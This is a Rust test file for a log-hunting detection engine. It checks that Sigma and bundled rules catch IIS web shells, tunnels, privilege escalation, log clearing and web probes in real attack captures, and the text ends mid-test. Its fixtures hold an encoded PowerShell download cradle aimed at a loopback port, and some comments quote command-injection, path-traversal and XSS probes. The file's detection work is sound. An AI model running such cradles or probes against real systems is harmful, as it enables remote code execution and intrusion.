//! The security lens end to end: SigmaHQ's rules (test fixtures in the
//! folder `FAULTLINE_SIGMA` names, never shipped) load with a reasoned skip list and
//! fire on the real attack captures; the bundled pack fires on them too and
//! stays quiet on a healthy generated day.

#![allow(clippy::print_stderr)] // skipped tests say so

mod common;

use std::path::{Path, PathBuf};

use faultline_analyzer::Scope;
use faultline_analyzer::hunting::{Hunt, HuntReport, hunt};
use faultline_hunt::{Level, LoadReport};
use faultline_parser::{ReadConfig, RecordId, Timestamp};

/// The SigmaHQ fixtures.
fn sigma() -> Option<PathBuf> {
    common::sigma("the SigmaHQ fixture tests")
}

fn run(paths: &[PathBuf], rules: LoadReport) -> HuntReport {
    let engine = Hunt::new(rules.finish());
    hunt(paths, &ReadConfig::default(), &Scope::default(), &engine, &|_| {})
}

fn bundled() -> LoadReport {
    let mut r = LoadReport::default();
    r.add_bundled();
    r
}

/// Three hours of a generated scenario on one host, written under `dir`.
fn three_hours_of(name: &str, dir: &Path) -> PathBuf {
    let size = faultline_corpus::scenario::Size { hosts: 1, hours: 3, rate: 0.3 };
    let evidence = dir.join("evidence");
    faultline_corpus::scenario::generate(name, &evidence, 5, &size).expect("generates");
    evidence
}

/// The bundled pack's hunt of three hours of a generated scenario.
fn hunt_scenario(name: &str) -> HuntReport {
    let dir = tempfile::tempdir().expect("tempdir");
    run(&[three_hours_of(name, dir.path())], bundled())
}

/// One event of an event-log export, numbered `record` and timed
/// `record` minutes past 10:00, on WEB01.
fn event_xml(record: u32, provider: &str, id: u16, channel: &str, data: &[(&str, &str)]) -> String {
    let data: String =
        data.iter().map(|(name, value)| format!("<Data Name=\"{name}\">{value}</Data>")).collect();
    format!(
        "<Event><System><Provider Name=\"{provider}\"/><EventID>{id}</EventID>\
         <TimeCreated SystemTime=\"2025-11-24T10:{record:02}:00Z\"/><EventRecordID>{record}</EventRecordID>\
         <Channel>{channel}</Channel><Computer>WEB01</Computer></System><EventData>{data}</EventData></Event>"
    )
}

/// A hunt of `events`, exported into one file named `name`.
fn hunt_events(name: &str, events: &[String], rules: LoadReport) -> HuntReport {
    let tmp = tempfile::tempdir().expect("tempdir");
    let file = tmp.path().join(name);
    std::fs::write(&file, format!("<Events>{}</Events>", events.concat())).expect("writes");
    run(&[file], rules)
}

/// (rule title, host) of each detection, distinct, in order.
fn hits(report: &HuntReport) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for d in &report.detections {
        let key = (d.rule.meta.title.clone(), d.host.clone());
        if !out.contains(&key) {
            out.push(key);
        }
    }
    out
}

#[test]
fn sigmahq_rules_load_with_reasoned_skips() {
    let Some(dir) = sigma() else { return };
    let mut report = LoadReport::default();
    report.add_path(&dir, false).expect("the fixtures folder reads");
    // Every webserver, process-creation, IIS-Configuration, log-clearing and
    // service rule loads (the Cobalt Strike service rule's `base64offset`
    // included) but the one that needs a field no web record carries.
    let skipped: Vec<(String, &str)> = report
        .skipped
        .iter()
        .map(|s| (s.path.file_name().unwrap_or_default().to_string_lossy().into_owned(), s.reason.as_str()))
        .collect();
    assert_eq!(skipped.len(), 1, "{skipped:?}");
    assert_eq!(skipped[0].0, "web_lnx_exploit_cve_2025_31324_sap_netviewer_webshell_uploaded.yml");
    assert!(skipped[0].1.contains("`cs-content-type`"), "{skipped:?}");
    assert_eq!(report.rules.len(), 119);
    assert!(
        report.rules.iter().all(|r| r.meta.author.is_some()),
        "the licence asks that hits show the author"
    );
}

#[test]
fn sigmahq_and_bundled_rules_fire_on_the_real_attack_captures() {
    let (Some(dir), Some(samples)) = (sigma(), common::samples("the real-capture hunt tests")) else {
        return;
    };
    let mut rules = bundled();
    rules.add_path(&dir, false).expect("reads");
    let captures = samples.join("evtx-sbousseaden-EVTX-ATTACK-SAMPLES");
    let report = run(
        &[
            captures.join("LM_typical_IIS_webshell_sysmon_1_10_traces.evtx"),
            captures.join("Tunna_rdp_tunnel_IIS.log"),
            captures.join("DE_104_system_log_cleared.evtx"),
            samples.join("w3c-log2timeline-plaso"),
        ],
        rules,
    );
    let found = hits(&report);
    for (title, host) in [
        // Sysmon ERID 1044: w3wp.exe -ap "DefaultAppPool" starting cmd.exe /c net user.
        ("Suspicious Process By Web Server Process", "IEWIN7"),
        ("IIS Worker Starts A Shell Or Recon Tool", "IEWIN7"),
        // Tunna_rdp_tunnel_IIS.log L7: /erp/conn.aspx?proxy&port=3389&ip=127.0.0.1. The log
        // names no server, and its folder holds captures of several: no host.
        ("Tunna Or reGeorg Tunnel Through A Web Page", "-"),
        // ERID 27736: the System log cleared by EXAMPLE\user01.
        ("Important Windows Eventlog Cleared", "PC01"),
        ("Windows Event Log Cleared", "PC01"),
        // iis7_sqli.log L5-L6: SQL injection probes.
        ("SQL Injection Strings In URI", "W3C-LOG2TIMELINE-PLASO"),
        // iis7_sqli.log L5: the probe's query ends with the ODBC error that
        // leaked the server's version.
        ("SQL Injection Reached The Database", "W3C-LOG2TIMELINE-PLASO"),
        // iis6.log L16: ID=ERROR[`cat%20passwd|echo`], from the client of
        // the SQL injection, answered 500.
        ("OS Command Injection Attempt", "W3C-LOG2TIMELINE-PLASO"),
    ] {
        assert!(found.contains(&(title.to_string(), host.to_string())), "{title} on {host}: {found:#?}");
    }
    let shell =
        report.detections.iter().find(|d| d.rule.meta.title == "IIS Worker Starts A Shell Or Recon Tool");
    let shell = shell.expect("found above");
    assert_eq!(shell.evidence.record.map(RecordId::as_written), Some(1044));
    assert!(
        shell.matched.iter().any(|(f, v)| f == "ParentImage" && v.ends_with("w3wp.exe")),
        "{:?}",
        shell.matched
    );
    assert_eq!(shell.rule.meta.techniques, ["T1505.003", "T1059.001", "T1059.003"]);
    // What the rules matched leads the summary, before the line is cut.
    let summary = &shell.evidence.summary;
    assert!(
        summary.starts_with("Microsoft-Windows-Sysmon 1: Image=C:\\Windows\\System32\\cmd.exe; "),
        "{summary}"
    );
    assert!(summary.contains("; ParentImage=C:\\Windows\\System32\\inetsrv\\w3wp.exe; "), "{summary}");
    let tunnel =
        report.detections.iter().find(|d| d.rule.meta.title.starts_with("Tunna")).expect("found above");
    assert_eq!(tunnel.evidence.line, Some(7));
}

/// The screen that spares most rows a full evaluation changes nothing:
/// over every real sample, with SigmaHQ's rules and the pack, and with the
/// pack alone, the hunt finds the same detections with it and without it.
#[test]
fn the_row_screen_changes_no_detection_on_real_evidence() {
    let (Some(dir), Some(samples)) = (sigma(), common::samples("the row-screen comparison")) else {
        return;
    };
    let rules = || {
        let mut r = bundled();
        r.add_path(&dir, false).expect("reads");
        r.finish()
    };
    let read = |engine: &Hunt| {
        hunt(std::slice::from_ref(&samples), &ReadConfig::default(), &Scope::default(), engine, &|_| {})
    };
    let web = |r: &HuntReport| {
        r.detections
            .iter()
            .map(|d| (d.rule.meta.title.clone(), d.evidence.path.clone(), d.evidence.line, d.evidence.record))
            .collect::<Vec<_>>()
    };
    let screened = read(&Hunt::new(rules()));
    let full = read(&Hunt::new(rules()).unscreened());
    assert!(web(&full).iter().filter(|d| d.2.is_some()).count() > 20, "the samples hold web attacks");
    assert_eq!(web(&screened), web(&full));
    // The pack alone: its needles are few enough for one packed searcher
    // over each chunk, where SigmaHQ's long ones above are found by
    // sampled grams: both ways of the line filter are compared.
    let screened = read(&Hunt::new(bundled().finish()));
    let full = read(&Hunt::new(bundled().finish()).unscreened());
    assert!(web(&full).iter().filter(|d| d.2.is_some()).count() > 20, "the samples hold web attacks");
    assert_eq!(web(&screened), web(&full));
}

/// The bundled pack's event rules read only events of the IIS catalogue,
/// which every read extracts: over every real sample its hunt finds the
/// same with every event read as without, and a user's event rule makes
/// the read take every event.
#[test]
fn the_pack_needs_no_event_outside_the_catalogue() {
    let Some(samples) = common::samples("the event-catalogue comparison") else { return };
    let pack = Hunt::new(bundled().finish());
    assert!(!pack.reading(&ReadConfig::default()).all_events);
    let read = |all_events: bool| {
        let read = ReadConfig { all_events, ..ReadConfig::default() };
        let report = hunt(std::slice::from_ref(&samples), &read, &Scope::default(), &pack, &|_| {});
        report
            .detections
            .iter()
            .map(|d| (d.rule.meta.title.clone(), d.evidence.path.clone(), d.evidence.line, d.evidence.record))
            .collect::<Vec<_>>()
    };
    let catalogue = read(false);
    assert!(catalogue.iter().filter(|d| d.3.is_some()).count() > 10, "the samples hold event detections");
    assert_eq!(catalogue, read(true));
    let dir = tempfile::tempdir().expect("tempdir");
    let with = |name: &str, rule: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, rule).expect("writes");
        let mut rules = bundled();
        rules.add_path(&path, false).expect("reads");
        Hunt::new(rules.finish())
    };
    let rule = "title: any logon\nlogsource: {product: windows, service: security}\ndetection:\n    \
                selection: {EventID: 4634}\n    condition: selection\n";
    assert!(with("logoff.yml", rule).reading(&ReadConfig::default()).all_events);
    let rule = "title: a page\nlogsource: {category: webserver}\ndetection:\n    \
                selection: {cs-uri-stem: '/x'}\n    condition: selection\n";
    assert!(!with("page.yml", rule).reading(&ReadConfig::default()).all_events);
}

#[test]
fn a_healthy_day_gives_nothing_of_medium_or_above() {
    let dir = tempfile::tempdir().expect("tempdir");
    let size = faultline_corpus::scenario::Size { hosts: 2, hours: 6, rate: 0.5 };
    faultline_corpus::scenario::generate("healthy", dir.path(), 5, &size).expect("generates");
    let report = run(&[dir.path().to_path_buf()], bundled());
    let loud: Vec<_> = report.detections.iter().filter(|d| d.rule.meta.level >= Level::Medium).collect();
    assert!(loud.is_empty(), "{loud:#?}");
}

#[test]
fn detections_are_the_same_whatever_the_thread_count() {
    let Some(samples) = common::samples("the real-capture hunt tests") else { return };
    let paths = [samples.join("evtx-sbousseaden-EVTX-ATTACK-SAMPLES")];
    let once = || {
        let r = run(&paths, bundled());
        r.detections
            .iter()
            .map(|d| (d.time, d.evidence.path.clone(), d.evidence.line, d.rule.meta.id.clone()))
            .collect::<Vec<_>>()
    };
    let many = once();
    let one = rayon::ThreadPoolBuilder::new().num_threads(1).build().expect("pool").install(once);
    assert_eq!(many, one);
}

#[test]
fn an_allow_listed_scanner_is_not_an_attack() {
    let Some(samples) = common::samples("the real-capture hunt tests") else { return };
    let log = samples.join("evtx-sbousseaden-EVTX-ATTACK-SAMPLES/Tunna_rdp_tunnel_IIS.log");
    let loaded = bundled().finish();
    let hunt_with = |allowed: Vec<(std::net::IpAddr, u8)>| {
        let h = Hunt::new(bundled().finish()).allow_clients(allowed);
        hunt(std::slice::from_ref(&log), &ReadConfig::default(), &Scope::default(), &h, &|_| {})
            .detections
            .len()
    };
    assert!(!loaded.rules.is_empty());
    assert!(hunt_with(Vec::new()) > 0, "the tunnel is found");
    let net = faultline_hunt::pattern::parse_cidr("10.0.2.0/24").expect("a network");
    assert_eq!(hunt_with(vec![net]), 0, "the tunnel's client is allow-listed");
}

/// erinjmackey's WineDraw download holds the event log alone: the probes
/// that threw (ASP.NET 1309) are found from the requests the events name,
/// on the App Service site: `/assets/file:/etc/passwd` (line 1158), four
/// short-name probes (`/*~1*/.aspx`), eight for `Trace.axd` and a
/// terminal-escape link carrying `onmouseover="alert(1)` (line 1164).
#[test]
fn a_probe_an_aspnet_error_names_is_found_without_an_access_log() {
    let Some(samples) = common::samples("the real-capture hunt tests") else { return };
    let report = run(&[samples.join("azure-eventlog-erinjmackey-WineDraw")], bundled());
    assert!(report.detections.iter().all(|d| d.host == "MACKEYWINEDRAW"));
    let lines = |title: &str| -> Vec<u64> {
        report
            .detections
            .iter()
            .filter(|d| d.rule.meta.title == title)
            .filter_map(|d| d.evidence.line)
            .collect()
    };
    assert_eq!(lines("Path Traversal Attempt"), [1158]);
    assert_eq!(lines("IIS Short Name Probe"), [1064, 1090, 1096, 1132]);
    assert_eq!(lines("ASP.NET Diagnostics Page Probe"), [1054, 1070, 1080, 1102, 1112, 1122, 1138, 1148]);
    assert_eq!(lines("Cross-Site Scripting Probe"), [1164]);
    assert_eq!(report.detections.len(), 14);
}

/// sbousseaden's Rotten Potato capture: the IIS worker started notepad
/// as its app pool's identity (ERID 5408), which started a notepad as
/// SYSTEM (5418): the escalation is one critical detection, citing 5418
/// and naming the identity it came from.
#[test]
fn the_rotten_potato_escalation_is_critical() {
    let Some(samples) = common::samples("the real-capture hunt tests") else { return };
    let report = run(
        &[samples.join("evtx-sbousseaden-EVTX-ATTACK-SAMPLES/privesc_rotten_potato_from_webshell_metasploit_sysmon_1_8_3.evtx")],
        bundled(),
    );
    let escalations: Vec<_> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.id == "faultline-native-pool-identity-escalation")
        .collect();
    assert_eq!(escalations.len(), 1, "{escalations:#?}");
    let d = escalations[0];
    assert_eq!(
        (d.rule.meta.level, d.evidence.record.map(RecordId::as_written)),
        (Level::Critical, Some(5418))
    );
    assert!(d.evidence.summary.contains("IIS APPPOOL\\DefaultAppPool"), "{}", d.evidence.summary);
}

/// The same capture ends with the JSP web shell `/error/cmd.jsp`, used from
/// 192.168.105.76: 5 GETs and 16 POSTs, all answered 200, lines 2634 to
/// 2660 (the capture holds no probe for a shell's name answered 404: the
/// pack's unit test keeps such a probe quiet).
#[test]
fn the_captures_jsp_shell_is_found_from_its_first_use_to_its_last() {
    let Some(samples) = common::samples("the real-capture hunt tests") else { return };
    let report = run(
        &[samples.join(
            "evtx-sbousseaden-EVTX-ATTACK-SAMPLES/web_attack_and_isp_webshell_localhost_access_log.txt",
        )],
        bundled(),
    );
    let shells: Vec<(Option<u64>, &str)> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Request For A Known Web Shell File Name")
        .map(|d| (d.evidence.line, d.evidence.summary.as_str()))
        .collect();
    assert_eq!(shells.len(), 21, "{shells:?}");
    assert_eq!(shells.first().map(|s| s.0), Some(Some(2634)));
    assert_eq!(shells.last().map(|s| s.0), Some(Some(2660)));
    assert!(
        shells.iter().all(|(_, summary)| summary.contains("/error/cmd.jsp 200 from 192.168.105.76")),
        "{shells:?}"
    );
}

/// The real web-attack capture (an access log in the common format) holds
/// two scanners walking the site, 192.168.105.83 from 06:31 UTC (L24 its
/// first 404) and 192.168.105.64 from 07:30 (L1308), hundreds of missing
/// paths each; lnav's W3C sample one, 183.60.244.30 asking for editor and
/// admin paths (L59): an analyst reads three scanning episodes, not one
/// detection per thirty paths.
#[test]
fn each_real_scanner_is_one_episode() {
    let Some(samples) = common::samples("the real-capture hunt tests") else { return };
    let report = run(
        &[
            samples.join(
                "evtx-sbousseaden-EVTX-ATTACK-SAMPLES/web_attack_and_isp_webshell_localhost_access_log.txt",
            ),
            samples.join("w3c-tstack-lnav"),
        ],
        bundled(),
    );
    let bursts: Vec<(String, Option<u64>, usize)> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Scanner Burst From One Client")
        .map(|d| {
            let count = d.evidence.summary.split(' ').next().and_then(|n| n.parse().ok()).unwrap_or(0);
            (d.matched[0].1.clone(), d.evidence.line, count)
        })
        .collect();
    let clients: Vec<(&str, Option<u64>)> = bursts.iter().map(|(c, line, _)| (c.as_str(), *line)).collect();
    assert_eq!(
        clients,
        [("183.60.244.30", Some(59)), ("192.168.105.83", Some(24)), ("192.168.105.64", Some(1308))],
        "{bursts:?}"
    );
    assert!(bursts.iter().all(|(_, _, n)| *n > 100), "each episode counts the whole walk: {bursts:?}");
    let spans: Vec<(Timestamp, Option<Timestamp>)> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Scanner Burst From One Client")
        .map(|d| (d.time, d.end))
        .collect();
    assert!(
        spans.iter().all(|(from, end)| end.is_some_and(|end| end > *from)),
        "each ends at its last 404: {spans:?}"
    );
}

/// Behind a load balancer every row's `c-ip` is the balancer's: two
/// visitors missing twenty paths each are not one scanner missing forty, and
/// a scanner walking the site through it is the scanner it forwards (and
/// is passed over when allow-listed).
#[test]
fn behind_a_proxy_clients_are_the_forwarded_ones() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = dir.path().join("u_ex240101.log");
    let mut text = String::from(
        "#Software: Microsoft Internet Information Services 10.0\n\
         #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken X-Forwarded-For\n",
    );
    let mut row = |second: usize, path: String, client: &str| {
        text.push_str(&format!(
            "2024-01-01 10:{:02}:{:02} 10.0.0.10 GET {path} - 443 - 10.0.0.4 Mozilla/5.0 404 0 2 3 {client}\n",
            second / 60,
            second % 60
        ));
    };
    for i in 0..20 {
        row(i, format!("/visitor-a/{i}.html"), "198.51.100.7");
        row(i, format!("/visitor-b/{i}.html"), "192.0.2.44,+203.0.113.20");
    }
    // The scanner forges an entry of its own on each request, to the left
    // of the one the balancer appends.
    for i in 0..35 {
        row(100 + i, format!("/admin{i}.php"), &format!("198.51.100.{i},+203.0.113.99:51000"));
    }
    std::fs::write(&log, text).expect("write");
    let bursts = |allowed: Vec<(std::net::IpAddr, u8)>| -> Vec<String> {
        let h = Hunt::new(bundled().finish()).allow_clients(allowed);
        hunt(std::slice::from_ref(&log), &ReadConfig::default(), &Scope::default(), &h, &|_| {})
            .detections
            .iter()
            .filter(|d| d.rule.meta.title == "Scanner Burst From One Client")
            .map(|d| format!("{:?} {}", d.matched, d.evidence.summary))
            .collect()
    };
    let found = bursts(Vec::new());
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(found[0].contains("(\"c-ip\", \"203.0.113.99\")"), "{found:#?}");
    assert!(found[0].contains("from 203.0.113.99 via 10.0.0.4"), "{found:#?}");
    let scanner = faultline_hunt::pattern::parse_cidr("203.0.113.99/32").expect("a network");
    assert!(bursts(vec![scanner]).is_empty(), "the allow-listed scanner, behind the proxy");
    let forged = faultline_hunt::pattern::parse_cidr("198.51.100.0/24").expect("a network");
    assert_eq!(bursts(vec![forged]).len(), 1, "a forged entry allow-lists nothing");
}

/// A correlation over a rule that only feeds it takes its app pool from
/// those matches: the worker's children on the generated web-shell day
/// name the pool of the w3wp.exe that started them.
#[test]
fn a_correlation_over_silent_process_events_names_their_app_pool() {
    let dir = tempfile::tempdir().expect("tempdir");
    let evidence = three_hours_of("web-shell", dir.path());
    let rules = "title: Worker Child\nname: t_child\nlogsource:\n    category: process_creation\n    \
                 product: windows\ndetection:\n    selection:\n        ParentImage|endswith: '\\w3wp.exe'\n    \
                 condition: selection\nlevel: low\n---\ntitle: Worker Children\ncorrelation:\n    \
                 type: event_count\n    rules: [t_child]\n    group-by: [host]\n    timespan: 1h\n    \
                 condition:\n        gte: 1\nlevel: medium\n";
    let rule_file = dir.path().join("rules.yml");
    std::fs::write(&rule_file, rules).expect("writes");
    let mut loaded = LoadReport::default();
    loaded.add_path(&rule_file, false).expect("loads");
    let report = run(&[evidence], loaded);
    let titles: Vec<&str> = report.detections.iter().map(|d| d.rule.meta.title.as_str()).collect();
    assert!(!titles.is_empty() && titles.iter().all(|t| *t == "Worker Children"), "{titles:?}");
    for d in &report.detections {
        assert_eq!(d.app_pool.as_deref(), Some("ShopPool"), "{d:#?}");
    }
}

/// SigmaHQ's Cobalt Strike service rule finds a service whose command
/// decodes a download cradle from Base64 (`base64offset`: the cradle sits
/// five bytes into the encoded script), and not one decoding something
/// else through the same command.
#[test]
fn a_base64offset_rule_finds_the_encoded_cradle_and_not_its_look_alike() {
    let Some(dir) = sigma() else { return };
    let rule = dir.join(
        "rules/windows/builtin/system/service_control_manager/win_system_cobaltstrike_service_installs.yml",
    );
    let service = |record: u32, name: &str, encoded: &str| {
        let command = format!(
            "powershell -c iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{encoded}')))"
        );
        event_xml(
            record,
            "Service Control Manager",
            7045,
            "System",
            &[("ServiceName", name), ("ImagePath", &command)],
        )
    };
    let events = [
        // `$u=1;IEX (New-Object Net.Webclient).DownloadString('http://127.0.0.1:31337/')`
        service(
            1,
            "updater",
            "JHU9MTtJRVggKE5ldy1PYmplY3QgTmV0LldlYmNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8xMjcuMC4wLjE6MzEzMzcvJyk=",
        ),
        // `$u=1;Write-Output (Get-Date).ToString('http://127.0.0.1:31337/')`
        service(
            2,
            "clock",
            "JHU9MTtXcml0ZS1PdXRwdXQgKEdldC1EYXRlKS5Ub1N0cmluZygnaHR0cDovLzEyNy4wLjAuMTozMTMzNy8nKQ==",
        ),
    ];
    let mut rules = LoadReport::default();
    rules.add_path(&rule, false).expect("reads");
    assert!(rules.skipped.is_empty(), "{:?}", rules.skipped);
    let report = hunt_events("System.xml", &events, rules);
    let found: Vec<(&str, Option<i64>)> = report
        .detections
        .iter()
        .map(|d| (d.rule.meta.title.as_str(), d.evidence.record.map(RecordId::as_written)))
        .collect();
    assert_eq!(found, [("CobaltStrike Service Installations - System", Some(1))]);
}

/// `fieldref` on events: a process whose image is its parent's (compared
/// without case, as Sigma does unless `cased`), and not another parent's.
#[test]
fn a_field_reference_compares_two_values_of_one_event() {
    let process = |record: u32, image: &str, parent: &str| {
        let data = [("Image", image), ("ParentImage", parent), ("CommandLine", "x")];
        event_xml(record, "Microsoft-Windows-Sysmon", 1, "Microsoft-Windows-Sysmon/Operational", &data)
    };
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    // The third: both unset, which is no equality.
    let events = [
        process(1, cmd, &cmd.to_ascii_lowercase()),
        process(2, cmd, "C:\\Windows\\explorer.exe"),
        process(3, "-", "-"),
    ];
    let found = |modifiers: &str| {
        let rule = format!(
            "title: Itself\nlogsource:\n    category: process_creation\n    product: windows\n\
             detection:\n    selection:\n        Image|fieldref{modifiers}: ParentImage\n    \
             condition: selection\nlevel: low\n"
        );
        let mut rules = LoadReport::default();
        rules.add_text(&rule, Path::new("itself.yml"));
        assert!(rules.skipped.is_empty(), "{:?}", rules.skipped);
        let report = hunt_events("Sysmon.xml", &events, rules);
        report.detections.iter().map(|d| d.evidence.record.map(RecordId::as_written)).collect::<Vec<_>>()
    };
    assert_eq!(found(""), [Some(1)]);
    assert!(found("|cased").is_empty(), "cased: the parent is written in lower case");
}

/// The pack on the real captures a web shell left in Sysmon beyond process
/// creation: Tunna's w3wp relaying RDP and SMB over loopback (four
/// connections of two worker processes), Rotten Potato's w3wp starting
/// notepad (ERID 5408) and injecting a thread into it (5411), a web shell
/// running as another user through runas (Security 4648 by w3wp, ERID
/// 161472), and Atomic Red Team's cmd.exe running appcmd to switch HTTP
/// logging off (ERID 4076) and sc.exe creating a service (3577). None
/// gave a detection before.
#[test]
fn the_pack_finds_tunnels_and_injection_by_the_worker_in_real_captures() {
    let Some(samples) = common::samples("the worker's Sysmon activity") else { return };
    let attacks = samples.join("evtx-sbousseaden-EVTX-ATTACK-SAMPLES");
    let report = run(
        &[
            attacks.join("tunna_iis_rdp_smb_tunneling_sysmon_3.evtx"),
            attacks.join("privesc_rotten_potato_from_webshell_metasploit_sysmon_1_8_3.evtx"),
            attacks.join("Runas_4624_4648_Webshell_CreateProcessAsUserA.evtx"),
        ],
        bundled(),
    );
    let panache = run(&[attacks.join("PanacheSysmon_vs_AtomicRedTeam01.evtx")], bundled());
    let ports: Vec<bool> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title.starts_with("IIS Worker Or Its Identity Connects Over Loopback"))
        .map(|d| {
            ["3389", "445"].iter().any(|p| d.evidence.summary.contains(&format!("DestinationPort={p};")))
        })
        .collect();
    assert_eq!(ports, [true; 4], "which service each tunnel reached is in its line");
    // Rotten Potato's notepad reaching RPC's endpoint mapper (ERID 5412,
    // 5415, 5417) is the escalation's start, not a tunnel: checked below.
    let first = report
        .detections
        .iter()
        .find(|d| d.evidence.record.map(RecordId::as_written) == Some(35076))
        .expect("found above");
    assert_eq!(
        first.time.to_string(),
        "2019-09-03T11:04:05.797000000Z",
        "when w3wp connected (UtcTime), the second of Tunna's request in its W3C log, not when Sysmon wrote it"
    );
    let appcmd: Vec<Option<i64>> = panache
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Appcmd Asked To Turn IIS Logging Off")
        .map(|d| d.evidence.record.map(RecordId::as_written))
        .collect();
    assert!(appcmd.contains(&Some(4076)), "{appcmd:?}");
    // Its sc.exe creating AtomicTestService (ERID 3577): the System log
    // that would say 7045 is not in the capture, and the shell that ran
    // sc.exe (3576) is the same act.
    let services: Vec<Option<i64>> = panache
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Service Created Or Repointed From A Command Line")
        .map(|d| d.evidence.record.map(RecordId::as_written))
        .collect();
    assert_eq!(services, [Some(3577)]);
    let got: Vec<(&str, &str, Option<i64>)> = report
        .detections
        .iter()
        .map(|d| (d.rule.meta.title.as_str(), d.host.as_str(), d.evidence.record.map(RecordId::as_written)))
        .collect();
    let tunnel = "IIS Worker Or Its Identity Connects Over Loopback To Remote Desktop, SMB, WinRM Or SSH";
    let mapper = "Program Running As An App Pool Identity Calls The Local RPC Endpoint Mapper";
    let inject = "IIS Worker Injects A Thread Into Another Process";
    let unexpected = "IIS Worker Starts A Windows Program It Has No Use For";
    let runas = "IIS Worker Logs On With Explicit Credentials";
    let escalation = "Process Running As SYSTEM Started By A Program Running As An App Pool Identity";
    let pool_thread = "Program Running As An App Pool Identity Creates A Thread In Another Process";
    let calls_out = "Program That Opens No Connections Of Its Own Connects Out";
    assert_eq!(
        got,
        [
            (unexpected, "IEWIN7", Some(5408)),
            // The notepad w3wp started, still IIS APPPOOL\DefaultAppPool,
            // reaching RPC over loopback: the Potato's NTLM relay. In the
            // order things happened (Sysmon's UtcTime): the connection at
            // 15:47:57.111, the thread injected at .628, though Sysmon wrote
            // the connection last.
            (mapper, "IEWIN7", Some(5412)),
            (inject, "IEWIN7", Some(5411)),
            (mapper, "IEWIN7", Some(5415)),
            (mapper, "IEWIN7", Some(5417)),
            // A notepad calling its operator (10.0.2.18:888; Sysmon's
            // UtcTime for it, 15:48:00.245, is before the next start's).
            (calls_out, "IEWIN7", Some(5420)),
            // Then a notepad started as SYSTEM by the pool's: the
            // escalation, and the pool's notepad creating a thread in it.
            (escalation, "IEWIN7", Some(5418)),
            (pool_thread, "IEWIN7", Some(5419)),
            (tunnel, "MSEDGEWIN10", Some(35076)),
            (tunnel, "MSEDGEWIN10", Some(35079)),
            (tunnel, "MSEDGEWIN10", Some(35202)),
            (tunnel, "MSEDGEWIN10", Some(35205)),
            // The runas capture clears the Security log first.
            ("Windows Event Log Cleared", "MSEDGEWIN10", Some(161471)),
            (runas, "MSEDGEWIN10", Some(161472)),
        ]
    );
    // Every step on IEWIN7 is the pool's but the SYSTEM notepad's call
    // out; the thread w3wp created (Sysmon 8 names no account) is known
    // as DefaultAppPool's from its child's start (ERID 5408).
    let pools: Vec<(&str, Option<&str>)> = report
        .detections
        .iter()
        .filter(|d| d.host == "IEWIN7")
        .map(|d| (d.rule.meta.title.as_str(), d.app_pool.as_deref()))
        .collect();
    let pool = Some("DefaultAppPool");
    let expected = [unexpected, mapper, inject, mapper, mapper, calls_out, escalation, pool_thread]
        .map(|title| (title, if title == calls_out { None } else { pool }));
    assert_eq!(pools, expected);
}

/// sbousseaden's capture of the Windows Event Log service crashed and
/// started again (ERID 65377, no boot beside it) is one medium detection;
/// plaso's System.evtx, whose event log service starts at each boot, and
/// omerbenamram's, give none.
#[test]
fn the_event_log_service_started_outside_a_boot_is_found() {
    let Some(samples) = common::samples("the event log service's restart") else { return };
    let title = "Windows Event Log Service Started Without A Boot";
    let found = |path: PathBuf| -> Vec<(String, Level, Option<i64>)> {
        run(&[path], bundled())
            .detections
            .into_iter()
            .filter(|d| d.rule.meta.title == title)
            .map(|d| (d.host, d.rule.meta.level, d.evidence.record.map(RecordId::as_written)))
            .collect()
    };
    let crash = samples.join("evtx-sbousseaden-EVTX-ATTACK-SAMPLES/DE_WinEventLogSvc_Crash_System_7036.evtx");
    assert_eq!(found(crash), [("01566S-WIN16-IR".to_string(), Level::Medium, Some(65377))]);
    for boots in ["evtx-log2timeline-plaso", "evtx-omerbenamram-evtx"] {
        assert!(found(samples.join(boots)).is_empty(), "{boots}");
    }
}

/// Zeus's System.evtx: the machine renamed twice and its clock set back
/// 9 h 40 min by Windows Time (record 645). Its new-service detections run
/// from a time after the step to one before it, under two names: the
/// hunt says both, as analyze's header does.
#[test]
fn the_hunt_names_renamed_machines_and_clock_steps() {
    let Some(samples) = common::samples("the hunt's header notes") else { return };
    let report = run(&[samples.join("evtx-Menna-Islam-Zeus")], bundled());
    let notes = report.header_notes(&|t| t.to_prose());
    assert_eq!(notes.len(), 2, "{notes:?}");
    assert!(notes[0].starts_with("PROACTIVE-PC was earlier named WIN-CMUL35D0HFB"), "{notes:?}");
    assert!(notes[1].starts_with("PROACTIVE-PC's clock was set back 9 h 40 min"), "{notes:?}");
    let records: Vec<String> =
        report.clock_steps[0].evidence.iter().filter_map(|e| e.record.map(|r| r.to_string())).collect();
    assert_eq!(records, ["645"]);
}

/// DeepBlueCLI's SMB password guessing (hayabusa's samples): 3,561
/// network logons rejected from 192.168.198.149 in under three minutes are
/// one detection, cited by its first record and ending at its last; two RDP
/// logons refused for an account restriction, and a console logon typed
/// wrong, are not guessing.
#[test]
fn password_guessing_over_smb_is_one_detection_and_a_few_refusals_are_none() {
    let Some(samples) = common::samples("the password-guessing capture") else { return };
    let hayabusa = samples.join("evtx-Yamato-Security-hayabusa-sample-evtx");
    let report = run(&[hayabusa.join("smb-password-guessing-security.evtx")], bundled());
    let got: Vec<(&str, &str, Option<i64>)> = report
        .detections
        .iter()
        .map(|d| (d.rule.meta.title.as_str(), d.host.as_str(), d.evidence.record.map(RecordId::as_written)))
        .collect();
    assert_eq!(got, [("Password Guessing Against Windows Logons", "DESKTOP-M5SN04R", Some(2455))]);
    let d = &report.detections[0];
    assert!(d.evidence.summary.contains("3561 matches"), "{}", d.evidence.summary);
